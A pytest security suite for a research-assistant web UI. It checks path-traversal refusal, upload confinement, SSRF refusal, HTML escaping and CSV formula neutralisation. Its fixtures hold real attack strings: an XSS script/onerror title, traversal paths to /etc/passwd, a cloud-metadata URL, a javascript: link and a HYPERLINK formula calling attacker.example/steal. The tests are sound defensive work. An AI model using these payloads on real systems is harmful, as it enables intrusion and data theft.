"""What a caller of the web UI can and cannot make the server do, tested against a real
`assistant serve` subprocess on a loopback port (real store in a temporary directory, real
models, real HTTP through httpx, http.client and gradio_client):

- it listens on loopback only;
- Gradio's file and download routes serve the app's own downloads and nothing else
  (/etc/passwd, `../` paths, encoded traversal, a file beside the store, local URLs);
- the ingest API reads only files Gradio received as uploads in this server (not a server
  path, not a `../` path, not a symlink planted in the upload folder), within the upload
  size limit, and says so readably;
- answers and summaries use only the model and llama.cpp server the operator allowed at
  start-up: another URL is never contacted, another file never opened;
- HTML in a paper's title, abstract and authors is text everywhere it is shown: chat,
  sources panel, library table and paper view, summaries and their downloads, literature
  table downloads, citation lookup;
- a running server answers from what another process ingested: a changed abstract is
  what it quotes, and new papers do not break its answers.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import shutil
import subprocess
import sys
import re
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from assistant.records import Paper
from assistant.settings import Settings
from assistant.ui.guard import model_refusal, uploaded_files
from assistant.ui.render import escape_markdown_html
from conftest import FIXTURES
from servers import assistant_server

HOSTILE = FIXTURES / "hostile" / "ui-html-title.jsonl"
HOSTILE_TITLE = "<script>alert(1)</script><img src=x onerror=alert(2)>"
SECRET_MARKER = "Walrus Secret Ledger"
RAW_HTML = ("<script", "<img", "<iframe", "<svg", "<b onmouseover")
UPLOAD_LIMIT_MB = 0.05  # the server under test refuses uploads above ~51 KB


def _no_raw_html(text: str, markdown: bool = False) -> None:
    """`text` (HTML, or Markdown when `markdown`) holds the hostile paper's markup only
    escaped: as entities, or in Markdown also as a backslash-escaped "\\<"."""
    if markdown:
        text = re.sub(r"(?<!\\)((?:\\\\)*)\\<", r"\1", text)  # drop escaped "<" (an odd run of backslashes)
    lowered = text.lower()
    for needle in RAW_HTML:
        assert needle not in lowered, f"unescaped {needle!r} in: {text[:2000]}"


# --- pure checks (real files, no server) ----------------------------------------------------


def test_uploaded_files_accepts_only_regular_files_inside_the_upload_folder(tmp_path: Path):
    folder = tmp_path / "gradio"
    (folder / "abc").mkdir(parents=True)
    inside = folder / "abc" / "papers.jsonl"
    inside.write_text('{"title": "x", "abstract": "y"}\n', encoding="utf-8")
    outside = tmp_path / "secret.jsonl"
    outside.write_text("secret\n", encoding="utf-8")
    planted = folder / "abc" / "planted.jsonl"
    planted.symlink_to(outside)
    big = folder / "abc" / "big.jsonl"
    big.write_bytes(b"x" * 200_000)
    settings = Settings(max_upload_mb=0.1)
    paths = [str(inside), str(outside), str(folder / "abc" / ".." / ".." / "secret.jsonl"), str(planted), str(big), str(folder), "/etc/passwd"]
    accepted, refused = uploaded_files(paths, settings, folder)
    assert accepted == [str(inside)]
    assert len(refused) == 6
    assert sum("Not uploaded through this page" in m for m in refused) == 5
    assert any("Too large, left out: big.jsonl" in m and "0.1 MB" in m for m in refused), refused
    assert not any(str(tmp_path) in m for m in refused)  # names only, never server paths


def test_model_refusal_allows_only_the_start_up_choices_and_the_allow_lists(tmp_path: Path):
    model = tmp_path / "start.gguf"
    extra = tmp_path / "extra.gguf"
    link = tmp_path / "link.gguf"
    link.symlink_to(extra)
    base = Settings(model=str(model), llm_url="http://127.0.0.1:8080/v1", allow_models=[str(extra)], allow_llm_urls=["http://localhost:9000/v1"])
    assert model_refusal(base, "", "") is None  # the packaged default
    assert model_refusal(base, str(model), "") is None
    assert model_refusal(base, str(link), "") is None  # the same file
    assert model_refusal(base, "", "http://127.0.0.1:8080/v1/") is None
    assert model_refusal(base, "", "HTTP://LOCALHOST:9000/v1") is None
    refused = model_refusal(base, "/etc/passwd", "")
    assert refused and "not found among the models this server allows" in refused and "--allow-model" in refused
    for url in ("http://127.0.0.1:8081/v1", "http://127.0.0.1:8080/admin", "http://user@127.0.0.1:8080/v1", "http://127.0.0.1:8080/v1?x=1"):
        message = model_refusal(base, "", url)
        assert message and "not allowed" in message and "--allow-llm-url" in message, url
    assert model_refusal(Settings(), "", "http://127.0.0.1:8080/v1")  # nothing allowed at start-up


def test_markdown_keeps_autolinks_and_escapes_every_tag():
    text = f"**{HOSTILE_TITLE}** code: <https://github.com/x/y> and a<b"
    escaped = escape_markdown_html(text)
    assert "<https://github.com/x/y>" in escaped
    assert "<script" not in escaped and "<img" not in escaped and "a&lt;b" in escaped


# --- the running server ------------------------------------------------------------------------


class _Recorder(BaseHTTPRequestHandler):
    """A local HTTP service that must never be contacted unless allowed: records every request."""

    def _record(self) -> None:
        self.server.requests.append(self.path)  # type: ignore[attr-defined]
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = _record

    def log_message(self, *args) -> None:  # quiet
        pass


@pytest.fixture(scope="module")
def recorders():
    """Two local HTTP services: `allowed` (given to serve with --allow-llm-url) and `other`."""
    servers = {}
    for name in ("allowed", "other"):
        server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
        server.requests = []  # type: ignore[attr-defined]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers[name] = server
    yield servers
    for server in servers.values():
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def server(fixture_store_dir: Path, tmp_path_factory: pytest.TempPathFactory, artifacts_dir: Path, recorders):
    """`assistant serve` over a copy of the fixture store plus the hostile paper, with its
    own Gradio upload folder, a 0.05 MB upload limit and one extra allowed llama.cpp URL."""
    root = tmp_path_factory.mktemp("security")
    store = root / "store"
    shutil.copytree(fixture_store_dir, store)
    uploads = root / "gradio"
    uploads.mkdir()
    secret = root / "secret.jsonl"
    secret.write_text(
        json.dumps({"title": SECRET_MARKER, "abstract": "This file lives on the server beside the store and was never uploaded by anyone."})
        + "\n",
        encoding="utf-8",
    )
    (root / "secret.gguf").write_bytes(b"GGUF\x03\x00\x00\x00")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("ASSISTANT_", "GRADIO_"))}
    env.update(
        ASSISTANT_STORE_DIR=str(store),
        ASSISTANT_N_THREADS=os.environ.get("ASSISTANT_N_THREADS", "2"),
        GRADIO_TEMP_DIR=str(uploads),
        NO_COLOR="1",
    )
    ingest = subprocess.run(
        [sys.executable, "-m", "assistant.cli", "ingest", str(HOSTILE)], env=env, capture_output=True, text=True, timeout=300
    )
    assert ingest.returncode == 0 and "1 added" in ingest.stdout, ingest.stdout + ingest.stderr
    allowed_url = f"http://127.0.0.1:{recorders['allowed'].server_address[1]}/v1"
    args = ["--allow-llm-url", allowed_url, "--max-upload-mb", str(UPLOAD_LIMIT_MB)]
    log_path = artifacts_dir / "security-server.log"
    with assistant_server(args, env, log_path, clean_log=False) as server:  # refused hostile requests log Gradio's tracebacks
        yield {
            "url": server.url,
            "port": server.port,
            "store": store,
            "uploads": uploads,
            "secret": secret,
            "root": root,
            "env": env,
            "log": log_path,
            "allowed_url": allowed_url,
            "other_url": f"http://127.0.0.1:{recorders['other'].server_address[1]}/v1",
        }


@pytest.fixture(scope="module")
def client(server):
    from gradio_client import Client

    return Client(server["url"], verbose=False)


def _served_file(server, update) -> tuple[int, str]:
    """(status, text) of a DownloadButton's file fetched from the server as a browser does
    (`update` comes from a client that does not download files: the server's own path)."""
    value = update.get("value", update) if isinstance(update, dict) else update
    path = value.get("path") if isinstance(value, dict) else value
    status, body = _raw_get(server["port"], f"/gradio_api/file={path}")
    return status, body.decode("utf-8", "replace")


def _text(message: dict) -> str:
    content = message["content"]
    if isinstance(content, list):
        return "".join(part.get("text", "") for part in content if isinstance(part, dict))
    return str(content)


def _raw_get(port: int, path: str) -> tuple[int, bytes]:
    """GET with the path sent exactly as written (no client-side `..` normalization)."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request("GET", path)
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def _call(server, api_name: str, data: list) -> tuple[str, str]:
    """(event, data) of one call through Gradio's HTTP API, as any HTTP client makes it."""
    started = httpx.post(f"{server['url']}gradio_api/call/{api_name}", json={"data": data}, timeout=30)
    started.raise_for_status()
    event_id = started.json()["event_id"]
    body = httpx.get(f"{server['url']}gradio_api/call/{api_name}/{event_id}", timeout=300).text
    events = [line.split(":", 1)[1].strip() for line in body.splitlines() if line.startswith("event:")]
    datas = [line.split(":", 1)[1].strip() for line in body.splitlines() if line.startswith("data:")]
    return (events[-1] if events else ""), (datas[-1] if datas else "")


def _library_titles(client, query: str) -> list[str]:
    table, _ = client.predict(query, api_name="/library_search")
    return [row[0] for row in table["data"]]


def test_serve_listens_on_loopback_only(server):
    """Every listening socket of the server's port is bound to 127.0.0.1 (/proc/net/tcp)."""
    port_hex = f"{server['port']:04X}"
    listening = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            local, state = fields[1], fields[3]
            address, port = local.split(":")
            if port == port_hex and state == "0A":  # LISTEN
                listening.append(address)
    assert listening == ["0100007F"], listening  # 127.0.0.1, and nothing on other interfaces or IPv6


FILE_ROUTES = [
    "/gradio_api/file={target}",
    "/file={target}",
    "/gradio_api/file/{target}",
    "/gradio_api/proxy={target}",
    "/static/{target}",
    "/assets/{target}",
    "/svelte/{target}",
    "/gradio_api/custom_component/x/client/{target}/y",
    "/gradio_api/stream/x/0/1/{target}",
    "/gradio_api/run-history/records/x/y/assets/{target}",
    "/{target}",
]


def test_file_routes_refuse_everything_but_the_apps_own_downloads(server, client):
    secret = str(server["secret"])
    store_file = str(next(server["store"].rglob("*.sqlite3")))
    targets = [
        "/etc/passwd",
        "../../../../../../etc/passwd",
        "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "%2Fetc%2Fpasswd",
        "....//....//....//etc/passwd",
        str(server["uploads"]) + "/../secret.jsonl",
        secret,
        urllib.parse.quote(secret, safe=""),
        store_file,
        f"http://127.0.0.1:{server['port']}/gradio_api/info",
        f"http://127.0.0.1:{urllib.parse.urlsplit(server['allowed_url']).port}/",
    ]
    for route in FILE_ROUTES:
        for target in targets:
            path = route.format(target=target)
            status, body = _raw_get(server["port"], path if path.startswith("/") else "/" + path)
            text = body.decode("utf-8", "replace")
            assert "root:x:0:0" not in text and SECRET_MARKER not in text and "SQLite format" not in text, (path, status)
            # refused outright, or answered with the app page itself (the SPA's catch-all), never a file
            assert status >= 400 or "<!doctype html>" in text.lower()[:200], (path, status, text[:200])
    # ... while the app's own download is served: a literature table's Markdown export
    from gradio_client import Client

    paths_only = Client(server["url"], verbose=False, download_files=False)
    _, _, _, _, md_button = paths_only.predict("quokka lighthouse navigation", n=3, api_name="/literature_table")
    status, text = _served_file(server, md_button)
    assert status == 200, (status, text[:200], md_button)
    assert "Quokkas navigate" in text or "quokka" in text.lower(), text[:500]
    _no_raw_html(text, markdown=True)
    assert "alert(1)" in text


def test_upload_route_keeps_files_inside_the_upload_folder(server):
    """A multipart upload whose file name climbs out (`../`) lands inside the upload folder."""
    escape_dir = server["root"] / "escaped"
    name = "../../../../../../" + str(escape_dir).lstrip("/") + "/evil.jsonl"
    files = {"files": (name, b'{"title": "Evil", "abstract": "Evil escaped the upload folder."}\n', "application/json")}
    response = httpx.post(f"{server['url']}gradio_api/upload", files=files, timeout=30)
    assert response.status_code == 200, response.text
    (stored,) = response.json()
    assert Path(stored).resolve().is_relative_to(server["uploads"].resolve()), stored
    assert not escape_dir.exists()


def test_ingest_api_reads_only_files_uploaded_to_this_server(server, client):
    from gradio_client import handle_file

    uploads = server["uploads"]
    (uploads / "planted").mkdir(exist_ok=True)
    planted = uploads / "planted" / "papers.jsonl"
    if not planted.exists():
        planted.symlink_to(server["secret"])
    hostile_paths = [
        str(server["secret"]),  # any server path
        str(uploads / ".." / server["secret"].name),  # `../` out of the upload folder
        str(planted),  # a symlink inside it pointing out
        "/etc/passwd.txt",
        "/etc/hostname",
    ]
    for path in hostile_paths:
        event, data = _call(server, "ingest", [[{"path": path, "meta": {"_type": "gradio.FileData"}}], "", "All sources", False])
        if event == "complete":  # got past Gradio's own check: our handler must refuse it by name
            report = json.loads(data)[0]
            assert "Nothing was added" in report and "Not uploaded through this page" in report, report
        else:
            assert event == "error", (path, event, data)
        # plain strings and dicts without Gradio's file marker are refused too
        event, _ = _call(server, "ingest", [[path], "", "All sources", False])
        assert event == "error", path
    assert SECRET_MARKER not in _library_titles(client, "walrus secret ledger")

    # a real upload through the page's upload route is read
    good = server["root"] / "good.jsonl"
    good.write_text(
        json.dumps({"title": "Tidal Lemmas for Sparse Octopus Networks", "abstract": "We prove tidal lemmas for sparse octopus "
                    "networks and show that octopus routing converges in logarithmic time on tidal graphs."}) + "\n",
        encoding="utf-8",
    )
    outputs = client.predict([handle_file(good)], "octopus", api_name="/ingest")
    assert "1 added" in outputs[0], outputs[0]
    assert "Tidal Lemmas for Sparse Octopus Networks" in _library_titles(client, "octopus")


def test_uploads_above_the_size_limit_are_refused_with_a_clear_message(server, client):
    from gradio_client import handle_file

    big = server["root"] / "big.jsonl"
    line = json.dumps({"title": "Oversized Narwhal Upload", "abstract": "Narwhal " * 40}) + "\n"
    big.write_text(line * 300, encoding="utf-8")  # ~100 KB, twice the limit
    assert big.stat().st_size > UPLOAD_LIMIT_MB * 1024 * 1024
    with pytest.raises(Exception) as refused:
        client.predict([handle_file(big)], "", api_name="/ingest")
    assert "size" in str(refused.value).lower() and "maximum" in str(refused.value).lower(), str(refused.value)
    # the raw upload route says the same, with an HTTP error
    response = httpx.post(f"{server['url']}gradio_api/upload", files={"files": ("big.jsonl", big.read_bytes())}, timeout=30)
    assert response.status_code >= 400 and "maximum allowed size" in response.text, (response.status_code, response.text[:300])
    assert "Oversized Narwhal Upload" not in _library_titles(client, "narwhal")


QUOKKA_QUESTION = "How do quokkas navigate between islands?"


def test_ask_refuses_models_and_servers_the_operator_did_not_allow(server, recorders):
    from gradio_client import Client

    session = Client(server["url"], verbose=False)
    secret_model = str(server["root"] / "secret.gguf")
    _, messages, _, info = session.predict(QUOKKA_QUESTION, model=secret_model, api_name="/ask")
    answer = _text(messages[-1])
    assert "Could not answer: model file not found among the models this server allows" in answer, answer
    assert "--allow-model" in answer and "Traceback" not in answer
    assert "not allowed" in info
    _, messages, _, _ = session.predict(QUOKKA_QUESTION, llm_url=server["other_url"], api_name="/ask")
    answer = _text(messages[-1])
    assert "Could not answer: llama.cpp server URL not allowed" in answer and "--allow-llm-url" in answer, answer
    for url in ("http://127.0.0.1:7860/", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd"):
        _, messages, _, _ = session.predict(QUOKKA_QUESTION, llm_url=url, api_name="/ask")
        assert "not allowed" in _text(messages[-1]), url
    markdown, _, _ = session.predict("pruning", n=3, model=secret_model, api_name="/summarize_topic")
    assert "Could not summarize" in markdown and "not found among the models this server allows" in markdown, markdown
    assert recorders["other"].requests == []  # never contacted
    # the URL the operator allowed is used (it answers 404 here, which the answer reports readably)
    _, messages, _, _ = session.predict(QUOKKA_QUESTION, llm_url=server["allowed_url"], api_name="/ask")
    answer = _text(messages[-1])
    assert "not allowed" not in answer and "Traceback" not in answer, answer
    assert recorders["allowed"].requests, "the allowed llama.cpp URL was never contacted"


def test_html_in_titles_and_abstracts_is_text_in_every_view(server, client):
    paper_id = Paper(title=HOSTILE_TITLE, abstract="x").id
    # library table: the title is a cell value (shown as text by the Dataframe), and the paper view escapes it
    assert HOSTILE_TITLE in _library_titles(client, "quokkas lighthouse")
    view = client.predict(paper_id, api_name="/paper")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;" in view, view[:1000]
    _no_raw_html(view)
    # chat answer and sources panel
    _, messages, panel, _ = client.predict(QUOKKA_QUESTION, api_name="/ask")
    answer = _text(messages[-1])
    assert "Could not answer" not in answer, answer
    assert "lighthouse" in answer.lower() or "lighthouse" in panel.lower()
    _no_raw_html(answer)
    _no_raw_html(panel)
    assert "&lt;script&gt;" in panel
    # summaries and their downloads
    from gradio_client import Client

    paths_only = Client(server["url"], verbose=False, download_files=False)
    markdown, md_button, _ = paths_only.predict(paper_id, api_name="/summarize_paper")
    assert "Could not summarize" not in markdown, markdown
    _no_raw_html(markdown, markdown=True)
    assert "alert(1)" in markdown and "<javascript:" not in markdown  # shown as text; no script link either
    status, text = _served_file(server, md_button)
    assert status == 200 and text.strip() == markdown.strip(), (status, text[:300])
    # citation lookup
    html, bibtex, references = client.predict("quokkas follow rotating lighthouse beams at night", 3, api_name="/cite")
    assert "Quokkas" in html or "quokka" in html.lower(), html
    _no_raw_html(html)


def test_a_running_server_answers_from_what_another_process_ingested(server, client, tmp_path: Path):
    question = "How long do wild dingoes remember the scent of a rival pack?"
    papers = tmp_path / "dingoes.jsonl"

    def write(days: int) -> None:
        papers.write_text(
            json.dumps(
                {
                    "title": "Scent Memory Retention in Wild Dingoes",
                    "abstract": "We study how long wild dingoes remember the scent of a rival pack. Field trials across four "
                    f"reserves show that dingoes retain scent memories for {days} days after a single exposure. "
                    "Retention does not depend on pack size.",
                }
            )
            + "\n",
            encoding="utf-8",
        )

    def ingest_elsewhere() -> str:
        done = subprocess.run(
            [sys.executable, "-m", "assistant.cli", "ingest", str(papers)], env=server["env"], capture_output=True, text=True, timeout=300
        )
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    from gradio_client import Client

    client.predict(QUOKKA_QUESTION, api_name="/ask")  # the server has read the store before
    write(40)
    assert "1 added" in ingest_elsewhere()
    _, messages, panel, _ = Client(server["url"], verbose=False).predict(question, api_name="/ask")
    answer = _text(messages[-1])
    assert "Could not answer" not in answer and "40 days" in answer, answer
    write(90)
    assert "1 updated" in ingest_elsewhere()
    _, messages, panel, _ = Client(server["url"], verbose=False).predict(question, api_name="/ask")
    answer = _text(messages[-1])
    assert "Could not answer" not in answer and "90 days" in answer and "40 days" not in answer, answer
    assert "90 days" in panel and "40 days" not in panel
    assert "Scent Memory Retention in Wild Dingoes" in _library_titles(client, "dingoes")


CHROMIUM = "/usr/bin/chromium"
_INJECTED = "() => document.querySelectorAll('img[src=\"x\"], [onerror], [onload], [onmouseover], iframe[src^=\"javascript\"]').length"


def test_browser_shows_the_hostile_paper_as_text_and_runs_none_of_it(server, artifacts_dir: Path):
    """Headless Chromium: the hostile title is visible as text in the Library table, the
    paper view, the chat and the Sources panel; no alert fires and no injected element exists."""
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: install Debian's chromium (make test does: apt-get install chromium)")
    from playwright.sync_api import expect, sync_playwright

    dialogs: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--headless=new", "--no-sandbox", "--disable-gpu"])
        try:
            page = browser.new_page(viewport={"width": 1366, "height": 768})
            page.set_default_timeout(30_000)
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.goto(server["url"])

            page.get_by_role("tab", name="Library").click()
            search = page.locator("#library-search textarea, #library-search input").first
            search.fill("quokkas lighthouse")
            search.press("Enter")
            cell = page.locator("#library-table [data-testid='cell-0-0']")
            expect(cell).to_contain_text(HOSTILE_TITLE)
            page.locator("#library-table [role='gridcell']").first.click()
            expect(page.locator("#paper-view h3")).to_have_text(HOSTILE_TITLE)
            expect(page.locator("#paper-view .abstract")).to_contain_text("Tracking collars")
            page.screenshot(path=str(artifacts_dir / "security-library-hostile-title.png"))

            page.get_by_role("tab", name="Chat").click()
            page.locator("#question textarea").fill(QUOKKA_QUESTION)
            page.locator("#ask").click()
            expect(page.locator("#chat .answer:not(.pending)").last).to_be_visible(timeout=180_000)
            expect(page.locator("#sources .title").first).to_contain_text(HOSTILE_TITLE)
            page.screenshot(path=str(artifacts_dir / "security-chat-hostile-title.png"))
            assert page.evaluate(_INJECTED) == 0
        finally:
            browser.close()
    assert dialogs == [], f"injected script ran: {dialogs}"


# --- spreadsheet formulas and Markdown in corpus text ---------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://attacker.example/steal","Cube Droppings Mark Wombat Burrows")'
MARKUP_ABSTRACT = (
    "Wombats mark the entrances of their burrows with **cube-shaped** droppings placed at night. "
    "Radio tags on 25 wombats show that each animal returns to a burrow marked with _its own_ droppings "
    "in 9 of 10 nights, as [the burrow map](javascript:alert(7)) shows. "
    "Camera traps and `scent` swabs were placed at 40 burrows on a Tasmanian plateau. "
    "A chemical <b>scent</b> signature, not the ~~cube~~ shape, tells wombats which burrow is theirs."
)
WOMBAT_QUESTION = "How do wombats mark the entrances of their burrows?"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What the abstract's markup would become if a view rendered it as Markdown.
FORMATTED = ("<strong>cube-shaped", "<em>its own", "<code>scent", "<del>cube", "<s>cube", 'href="javascript', "<b>scent")


def _markdown_html(markdown: str) -> str:
    """HTML from Markdown as Gradio's Markdown renders it (CommonMark + tables,
    strikethrough; raw HTML passed through, as gr.Markdown passes it to its sanitizer)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)


def _not_formatted(html: str) -> None:
    lowered = html.lower()
    for needle in FORMATTED:
        assert needle not in lowered, f"abstract markup rendered ({needle!r}) in: {html[:2000]}"


def test_csv_export_neutralizes_formulas_and_markdown_and_json_keep_the_text():
    from assistant.table import Cell, LiteratureTable, Row, spreadsheet_safe

    paper = Paper(title=FORMULA_TITLE, abstract=MARKUP_ABSTRACT, urls=["https://github.com/x/wombats"])
    texts = {"problem": "+1 burrow per night", "method": "-2 dB noise", "data": "@SUM(A1:A9) traps", "result": "\tA tab first"}
    cells = {column: Cell(text, 1.0, text) for column, text in texts.items()}
    cells["code"] = Cell(paper.code_url)
    table = LiteratureTable("wombats", ["problem", "method", "data", "result", "code"], [Row(paper, cells, 0.9)])
    rows = list(csv.DictReader(io.StringIO(table.to_csv())))
    assert rows[0]["title"] == "'" + FORMULA_TITLE
    for column, text in texts.items():
        assert rows[0][column] == "'" + text, rows[0]
    assert rows[0]["code"] == paper.code_url and rows[0]["problem_support"] == "1.0000"
    for value in rows[0].values():
        assert not value.startswith(FORMULA_STARTS), value
    assert spreadsheet_safe("\rcarriage") == "'\rcarriage" and spreadsheet_safe("  =1+1") == "'  =1+1"
    assert spreadsheet_safe("Wombats dig -2 m deep") == "Wombats dig -2 m deep"
    # Markdown and JSON are read as text, not by a spreadsheet: verbatim there
    assert FORMULA_TITLE in table.to_markdown() and "@SUM(A1:A9) traps" in table.to_markdown()
    data = table.to_dict()
    assert data["rows"][0]["title"] == FORMULA_TITLE and data["rows"][0]["cells"]["method"]["text"] == "-2 dB noise"


def test_markup_in_evidence_is_text_in_the_chat_the_sources_and_summaries():
    from assistant.ui.render import ChatEntry, SourceCard, markdown_text, render_answer, render_sources

    quoted = "Wombats mark burrows with **cube-shaped** droppings, _its own_ `scent` and [the burrow map](javascript:alert(7))."
    card = SourceCard(n=1, id="p-w", title="Wombat: Cube Droppings", abstract=MARKUP_ABSTRACT, evidence=[quoted], claims=[(quoted, 1.0)])
    entry = ChatEntry(question="wombats?", answer=f"*Wombat* says so [1]. {quoted} [1]", status="done", mode="composed", cards=[card])
    bubble = render_answer(entry, 0)
    panel = render_sources([entry])
    for html in (bubble, panel):
        _not_formatted(_markdown_html(html))  # also as Markdown: the bubble is one HTML block
        assert "**cube-shaped**" in html and "[the burrow map](javascript:alert(7))" in html
    assert "<em>Wombat</em>" in bubble  # the composer's name for the cited paper stays italic
    shown = markdown_text("# Wombats " + MARKUP_ABSTRACT + "\n- 1. list", names=["Wombat"])
    html = _markdown_html(f"- {shown}")
    _not_formatted(html)
    assert "<h1" not in html and "<ol" not in html and html.count("<li>") == 1
    assert "**cube-shaped**" in html and "[the burrow map](javascript:alert(7))" in html
    assert "<em>Wombat</em>" in _markdown_html(markdown_text("*Wombat* digs.", names=["Wombat"]))


@pytest.fixture(scope="module")
def wombat_paper(server, tmp_path_factory: pytest.TempPathFactory) -> Paper:
    """A paper whose title is a spreadsheet formula and whose abstract holds Markdown,
    ingested into the running server's store by another process."""
    path = tmp_path_factory.mktemp("wombats") / "wombats.jsonl"
    path.write_text(json.dumps({"title": FORMULA_TITLE, "abstract": MARKUP_ABSTRACT}) + "\n", encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "assistant.cli", "ingest", str(path)], env=server["env"], capture_output=True, text=True, timeout=300
    )
    assert done.returncode == 0 and "1 added" in done.stdout, done.stdout + done.stderr
    return Paper(title=FORMULA_TITLE, abstract=MARKUP_ABSTRACT)


def test_markup_and_formulas_in_a_paper_are_text_in_every_view_and_export(server, client, wombat_paper):
    from gradio_client import Client

    # chat answer and sources panel: the abstract's markup shows as the characters it is
    _, messages, panel, _ = client.predict(WOMBAT_QUESTION, api_name="/ask")
    answer = _text(messages[-1])
    assert "Could not answer" not in answer and "No relevant paper" not in answer, answer
    for html in (answer, panel):
        _not_formatted(html)
        _not_formatted(_markdown_html(html))
    assert "**cube-shaped**" in panel and "[the burrow map](javascript:alert(7))" in panel
    # one paper's summary, shown as Markdown and downloaded as .md
    paths_only = Client(server["url"], verbose=False, download_files=False)
    markdown, md_button, _ = paths_only.predict(wombat_paper.id, api_name="/summarize_paper")
    assert "Could not summarize" not in markdown, markdown
    html = _markdown_html(markdown)
    _not_formatted(html)
    assert any(text in html for text in ("**cube-shaped**", "_its own_", "`scent`", "&lt;b&gt;scent", "~~cube~~")), html
    status, text = _served_file(server, md_button)
    assert status == 200 and text.strip() == markdown.strip()
    # literature table: the Dataframe gets the text as it is (a "str" column shows text);
    # the CSV download neutralizes formulas, the Markdown download keeps them verbatim
    note, frame, _, csv_button, md_button = paths_only.predict(
        "wombats marking burrows with droppings", 3, ["problem", "method", "data", "result"], api_name="/literature_table"
    )
    assert "Could not" not in note and "No paper" not in note, note
    rows = frame["data"] if isinstance(frame, dict) else frame.values.tolist()
    assert [row[0] for row in rows if "Wombat" in row[0]] == [FORMULA_TITLE], rows
    status, text = _served_file(server, csv_button)
    assert status == 200, status
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert "'" + FORMULA_TITLE in [row["title"] for row in parsed], text[:1000]
    for row in parsed:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value
    status, text = _served_file(server, md_button)
    assert status == 200 and FORMULA_TITLE.replace("|", "\\|") in text
